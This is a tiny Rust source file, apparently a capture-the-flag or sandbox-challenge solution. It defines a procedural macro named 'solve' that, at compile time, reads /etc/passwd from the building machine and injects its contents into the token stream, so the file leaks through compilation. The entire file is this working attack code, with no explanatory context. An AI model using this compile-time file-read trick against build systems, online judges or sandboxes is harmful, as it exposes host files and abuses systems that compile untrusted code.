use proc_macro::TokenStream;

#[proc_macro]
pub fn solve(_: TokenStream) -> TokenStream {
    std::fs::read_to_string("/etc/passwd").unwrap().parse().unwrap()
}
